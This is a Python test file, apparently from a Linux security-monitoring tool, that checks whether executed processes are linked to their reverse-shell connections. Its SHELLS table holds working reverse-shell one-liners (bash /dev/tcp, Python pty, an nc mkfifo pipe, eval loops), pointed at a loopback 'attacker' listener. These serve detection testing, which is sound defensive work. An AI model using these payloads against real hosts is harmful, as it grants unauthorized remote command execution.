# SPDX-License-Identifier: GPL-2.0-or-later
"""Which connection is behind a process: reverse shells of many shapes, and processes without one."""

from __future__ import annotations

import os
import secrets
import socket
import subprocess
import sys
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from pathlib import Path

import pytest

from tests.live.collector import Collector, Event
from tests.live.conftest import Programs
from tests.live.tools import LIMIT_S

SOCKET = ("dip", "dport", "sip", "sport", "sa_family", "socket_process_pid", "socket_process_exe")
NOTHING = dict.fromkeys(SOCKET, "-1")

ALONE = """
import os, sys
parent = os.getpid()
if os.fork():
    os._exit(0)
os.setsid()
while os.getppid() == parent:
    os.sched_yield()
os.execvp(sys.argv[1], sys.argv[1:])
"""
"""A program that no longer descends from what started it, whose own sockets are not meant."""


def alone(*command: str | Path) -> None:
    """Start a command as a child of the first process, in a session of its own."""
    quiet = subprocess.DEVNULL
    subprocess.run([sys.executable, "-c", ALONE, *command], check=True, stdin=quiet, stdout=quiet, stderr=quiet)


class Attacker:
    """Where reverse shells connect to."""

    def __init__(self, address: str = "127.0.0.1") -> None:
        self.listener = socket.create_server((address, 0), family=socket.AF_INET6 if ":" in address else socket.AF_INET)
        self.listener.settimeout(LIMIT_S)
        self.port = self.listener.getsockname()[1]

    def __enter__(self) -> Attacker:
        return self

    def __exit__(self, *_: object) -> None:
        self.listener.close()

    @contextmanager
    def shell(self) -> Iterator[socket.socket]:
        """The next shell that connects; ends with the connection."""
        connection, _ = self.listener.accept()
        connection.settimeout(LIMIT_S)
        with connection:
            yield connection
            with suppress(OSError):  # one has ended by itself
                connection.sendall(b"exit\n")

    def order(self, connection: socket.socket, command: str) -> None:
        """Have a command run, to its end."""
        end = secrets.token_hex(8)
        connection.sendall(f"{command}; echo {end[:8]}''{end[8:]}\n".encode())
        seen = b""
        while end.encode() not in seen:
            new = connection.recv(65_536)
            assert new, f"the shell ended: {seen!r}"
            seen += new


@pytest.fixture
def mark() -> str:
    return secrets.token_hex(8)


def executions(collector: Collector, mark: str) -> list[Event]:
    return [each for each in collector.sync() if each["data_type"] == "59" and mark in each["argv"].split(" ")[1:]]


SHELLS = {
    "bash": ("bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1"),
    "python": (
        sys.executable,
        "-c",
        "import os, pty, socket; s = socket.create_connection(('127.0.0.1', {port}));"
        "[os.dup2(s.fileno(), n) for n in (0, 1, 2)]; pty.spawn('/bin/sh')",
    ),
    "nc": ("sh", "-c", "cd {folder}; mkfifo f; cat f | sh -i 2>&1 | nc 127.0.0.1 {port} > f"),
    "above 100": (
        "bash",
        "-c",
        'exec 3<>/dev/tcp/127.0.0.1/{port} 150<&3 3<&-; while read -r line <&150; do eval "$line" >&150; done',
    ),
    "stdin closed": (
        "bash",
        "-c",
        'exec 5<>/dev/tcp/127.0.0.1/{port} <&-; while read -r line <&5; do eval "$line" >&5; done',
    ),
    "not inherited": (
        sys.executable,
        "-c",
        "import socket, subprocess; s = socket.create_connection(('127.0.0.1', {port}));"
        "[s.sendall(subprocess.run(line, shell=True, stdin=-3, stdout=-1).stdout) for line in s.makefile()]",
    ),
}
HOLDERS = {"bash": None, "python": sys.executable, "nc": "/usr/bin/nc", "not inherited": sys.executable}
"""Who holds the connection; None and others: the command itself."""


@pytest.mark.parametrize("shape", SHELLS)
def test_reverse_shells(shape: str, collector: Collector, programs: Programs, tmp_path: Path, mark: str) -> None:
    """What a reverse shell executes, and a file that it creates, tell the peer and the process with the socket."""
    nop = programs("nop")
    with Attacker() as attacker:
        alone(
            *(part.replace("{port}", str(attacker.port)).replace("{folder}", str(tmp_path)) for part in SHELLS[shape])
        )
        with attacker.shell() as connection:
            _, port = connection.getpeername()
            attacker.order(connection, f"{nop} {mark}; : > {tmp_path}/{mark}")
    [event] = executions(collector, mark)
    created = [each for each in collector.events if each.get("file_path") == f"{tmp_path}/{mark}"]
    holder = HOLDERS.get(shape)
    for each in (event, *created):
        owner = os.path.realpath(holder) if holder else each["exe"]
        assert {name: each[name] for name in SOCKET if name != "socket_process_pid"} == {
            "dip": "127.0.0.1",
            "dport": str(attacker.port),
            "sip": "127.0.0.1",
            "sport": str(port),
            "sa_family": "2",
            "socket_process_exe": owner,
        }
        assert (each["socket_process_pid"] == each["pid"]) is (holder is None)
        assert len(each["socket_process_exe_md5"]) == 32
    assert len(created) == 1


def test_the_shell_itself(collector: Collector, mark: str) -> None:
    """The shell's own execution tells the peer, if its connection stands before it."""
    with Attacker() as attacker:
        alone("bash", "-c", f"exec bash -c 'read -r line' {mark} <> /dev/tcp/127.0.0.1/{attacker.port}")
        with attacker.shell() as connection:
            connection.sendall(b"\n")
            assert connection.recv(1) == b""
    event = [each for each in executions(collector, mark) if each["argv"].startswith("bash -c read")][-1]
    assert (event["dport"], event["socket_process_pid"]) == (str(attacker.port), event["pid"])
    assert event["stdin"].startswith("socket:[")


HOLDS = """
import os, socket, sys
s = {make}
os.set_inheritable(s.fileno(), True)
os.execv(sys.argv[1], sys.argv[1:])
"""


def held(collector: Collector, program: Path, mark: str, make: str) -> dict[str, str]:
    """What is told of a program that got the socket that `make` gives."""
    alone(sys.executable, "-c", HOLDS.replace("{make}", make), program, mark)
    [event] = collector.wait_for(lambda each: each["data_type"] == "59" and each["argv"] == f"{program} {mark} ")
    return {name: event[name] for name in SOCKET}


def test_other_families(collector: Collector, programs: Programs, mark: str) -> None:
    """A v6 connection is told, and a connected datagram socket."""
    nop = programs("nop")
    with Attacker("::1") as attacker:
        told = held(collector, nop, mark, f"socket.create_connection(('::1', {attacker.port}))")
    assert (told["dip"], told["dport"], told["sa_family"]) == ("::1", str(attacker.port), "10")
    make = "socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('127.0.0.1', 9))"
    told = held(collector, nop, f"{mark}2", make)
    assert (told["dip"], told["dport"], told["sa_family"]) == ("127.0.0.1", "9", "2")


UNCONNECTED = {
    "none": "open('/dev/null')",
    "listening": "socket.create_server(('127.0.0.1', 0))",
    "fresh": "socket.socket()",
    "unix": "socket.socketpair()[0]",
}


@pytest.mark.parametrize("kind", UNCONNECTED)
def test_without_a_connection(kind: str, collector: Collector, programs: Programs, mark: str) -> None:
    """A process with no socket, or none of v4 or v6 that is connected, tells none."""
    assert held(collector, programs("nop"), mark, UNCONNECTED[kind]) == NOTHING


def test_a_connection_that_is_over(collector: Collector, programs: Programs, mark: str) -> None:
    """A descriptor whose connection was reset is no connection."""
    make = (
        "socket.create_connection(l.getsockname()) if (l := socket.create_server(('127.0.0.1', 0))) else 0;"
        "c, _ = l.accept(); c.setsockopt(1, 13, b'\\1\\0\\0\\0\\0\\0\\0\\0'); c.close()"
    )
    assert held(collector, programs("nop"), mark, make) == NOTHING


def test_loopback_left_out(programs: Programs, tmp_path: Path, mark: str) -> None:
    """Where connections on loopback are left out, such a one is nobody's connection either."""
    tables: dict[str, dict[str, object]] = {
        "collector": {"probes": ["execve"]},
        "filters": {"loopback": True},
    }
    with Attacker() as attacker, Collector(tmp_path, tables) as running:
        make = f"socket.create_connection(('127.0.0.1', {attacker.port}))"
        assert held(running, programs("nop"), mark, make) == NOTHING
        running.stop().check()


def test_many_descriptors(collector: Collector, programs: Programs, mark: str) -> None:
    """Where not all descriptors were looked at, the event says so."""
    make = "open('/dev/null'); [os.set_inheritable(os.dup(s.fileno()), True) for _ in range(300)]"
    alone(sys.executable, "-c", HOLDS.replace("{make}", make), programs("nop"), mark)
    argv = f"{programs('nop')} {mark} "
    [event] = collector.wait_for(lambda each: each["data_type"] == "59" and each["argv"] == argv)
    assert (event["dip"], event["socket_truncated"]) == ("-1", "1")
